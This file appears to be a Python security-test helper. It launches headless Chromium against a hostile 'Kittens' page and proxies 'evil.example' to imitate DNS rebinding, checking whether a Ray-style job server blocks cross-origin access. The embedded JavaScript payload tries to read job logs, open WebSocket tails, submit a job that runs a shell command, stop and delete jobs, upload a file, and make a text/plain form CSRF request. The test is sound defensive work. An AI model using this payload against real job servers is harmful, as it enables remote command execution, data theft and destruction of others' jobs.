"""A real Chromium (Debian's package), and web pages that mean harm, for tests.

The pages are served by a server that is a proxy as well. With Chromium sent through it, the name
`evil.example` is first the attacker's, and then, as with DNS rebinding, the job server's.
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import json
import os
import queue
import select
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

REPORT_TIMEOUT_S = 60.0
DOM_TIMEOUT_S = 60.0
#: Time that passes for a page, not for who waits for it.
PAGE_TIME_MS = 20_000
ATTACKER = "evil.example"
#: A name of the job server, for a page to which it is another origin. Chromium says nothing of the
#: page to a plain http:// address that isn't this machine's, for which it takes this one.
SERVER = "ray.example.com"

#: Tries what a page may try with a job server, and reports what it could see of it.
ATTACK = """<!doctype html><title>Kittens</title><script>
const target = %(target)s, job = %(job)s, untold = %(untold)s;
const log = "/api/ray_jobs/v1/jobs/" + job + "/logs";
const jobs = target + "/api/jobs/", submission = JSON.stringify({entrypoint: "touch " + %(mark)s});
const seen = {};
async function attempt(name, work) {
  try { seen[name] = await work(); } catch (error) { seen[name] = "blocked"; }
}
function follow(path) {
  return new Promise((resolve) => {
    const socket = new WebSocket(target.replace("http", "ws") + path);
    socket.onmessage = async (event) => resolve(
      typeof event.data === "string" ? event.data : await event.data.text());
    socket.onerror = () => resolve("blocked");
  });
}
function load(kind, url) {
  return new Promise((resolve) => {
    const element = document.createElement(kind);
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve("blocked");
    element.src = url;
    document.body.append(element);
  });
}
const quiet = {mode: "no-cors", referrerPolicy: "no-referrer"};
const read = async (path) => (await fetch(target + path)).text();
async function attack() {
  await attempt("list", () => read("/api/jobs/"));
  await attempt("job", () => read("/api/jobs/" + job));
  await attempt("log", () => read(log));
  await attempt("tail", () => follow("/api/jobs/" + job + "/logs/tail"));
  await attempt("own tail", () => follow(log + "/tail"));
  await attempt("read quietly", async () => (await fetch(target + "/api/jobs/", quiet)).type);
  await attempt("script", () => load("script", target + log));
  await attempt("image", () => load("img", target + log));
  await attempt("untold script", () => load("script", untold + log));
  await attempt("submit quietly", async () =>
    (await fetch(jobs, {method: "POST", body: submission, ...quiet})).type);
  await attempt("submit", async () => (await fetch(jobs, {method: "POST", body: submission,
    headers: {"Content-Type": "application/json"}})).status);
  await attempt("beacon", async () => navigator.sendBeacon(jobs, submission));
  await attempt("stop", async () =>
    (await fetch(jobs + job + "/stop", {method: "POST", ...quiet})).type);
  await attempt("delete", async () => (await fetch(jobs + job, {method: "DELETE"})).status);
  await attempt("upload", async () =>
    (await fetch(target + "/api/packages/gcs/evil.zip", {method: "PUT", body: "x"})).status);
  await attempt("form", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "frame";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: jobs, enctype: "text/plain", target: "frame"});
    const field = document.createElement("input");
    Object.assign(field, {name: submission.slice(0, -1) + ', "a": "', value: '"}'});
    form.append(field);
    document.body.append(form);
    frame.onload = () => resolve("loaded");
    form.submit();
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
}
addEventListener("load", attack);
</script><body>"""


class Attacker:
    """Serves the page, takes its report, and passes on what isn't for itself."""

    def __init__(self, target_port: int) -> None:
        self._target_port = target_port
        self.page = b""
        self.reports: queue.Queue[dict[str, Any]] = queue.Queue()
        #: What was passed on, and the statuses of the answers.
        self.passed: list[tuple[str, int]] = []
        handler = type("Handler", (_Handler,), {"attacker": self})
        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self._target_port))

    def attack(self, *, target: str, job_id: str, mark: Path, rebinding: bool) -> dict[str, Any]:
        """Have Chromium open the page. Returns what the page saw, by what it tried.

        Args:
            target: The job server as the page calls it.
            mark: A file that a job would make.
            rebinding: The page is of the origin `target`, whose name points elsewhere meanwhile.
        """
        untold = f"http://{SERVER}:{self._target_port}" if rebinding else target
        values = {"target": target, "untold": untold, "job": job_id, "mark": str(mark)}
        self.page = (ATTACK % {name: json.dumps(each) for name, each in values.items()}).encode()
        arguments, url = [], f"http://localhost:{self.port}/kittens"
        if rebinding:
            arguments = [f"--proxy-server=http://127.0.0.1:{self.port}"]
            url = f"{target}/kittens"
        with running_chromium(*arguments, url):
            return self.reports.get(timeout=REPORT_TIMEOUT_S)


class _Handler(http.server.BaseHTTPRequestHandler):
    attacker: Attacker

    def do_GET(self) -> None:
        path = urlsplit(self.path).path
        if path == "/kittens":
            self._answer(200, {"Content-Type": "text/html"}, self.attacker.page)
            return
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        if path == "/report":
            self.attacker.reports.put(json.loads(body))
            self._answer(200, {}, b"")
        elif self.path.startswith((f"http://{ATTACKER}", f"http://{SERVER}")):
            self._pass_on(path, body)
        else:
            self._answer(404, {}, b"")

    do_POST = do_PUT = do_DELETE = do_OPTIONS = do_GET  # noqa: N815 - as the library calls them

    def do_CONNECT(self) -> None:
        """Pass on a WebSocket; whatever else the browser wants of the world outside, it can't."""
        if not self.path.startswith(ATTACKER):
            self._answer(403, {}, b"")
            return
        self.send_response(200)
        self.end_headers()
        with self.attacker.connect() as server:
            ends = {self.connection: server, server: self.connection}
            while True:
                for end in select.select(list(ends), [], [])[0]:
                    data = end.recv(65536)
                    if not data:
                        return
                    ends[end].sendall(data)

    def _pass_on(self, path: str, body: bytes) -> None:
        connection = http.client.HTTPConnection("127.0.0.1", self.attacker._target_port)
        headers = {name: value for name, value in self.headers.items() if "Proxy" not in name}
        with contextlib.closing(connection):
            connection.request(self.command, path, body, headers)
            answer = connection.getresponse()
            data = answer.read()
        self.attacker.passed.append((self.path, answer.status))
        kept = {
            name: value
            for name, value in answer.getheaders()
            if name.lower() not in ("transfer-encoding", "content-length", "connection")
        }
        self._answer(answer.status, kept, data)

    def _answer(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


@contextlib.contextmanager
def running_attacker(address: str) -> Iterator[Attacker]:
    """Serve the page that attacks the job server at an address."""
    attacker = Attacker(urlsplit(address).port or 80)
    try:
        yield attacker
    finally:
        attacker.close()


@contextlib.contextmanager
def running_chromium(*arguments: str) -> Iterator[subprocess.Popen[bytes]]:
    """Run Chromium without a window. Its output is a pipe."""
    executable = shutil.which("chromium")
    assert executable, "Chromium is missing: apt-get install chromium"
    with tempfile.TemporaryDirectory(prefix="rjc-", ignore_cleanup_errors=True) as folder:
        process = subprocess.Popen(
            [
                executable,
                "--headless=new",
                "--no-sandbox",  # that of root's needs privileges
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
                "--disable-background-networking",
                f"--user-data-dir={folder}",
                *arguments,
            ],
            env={**os.environ, "HOME": folder},
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            yield process
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.communicate()


def page_text(url: str) -> str:
    """Return the document of a page after it has had time to load what it shows."""
    with running_chromium(f"--virtual-time-budget={PAGE_TIME_MS}", "--dump-dom", url) as process:
        output, _ = process.communicate(timeout=DOM_TIMEOUT_S)
    return output.decode()
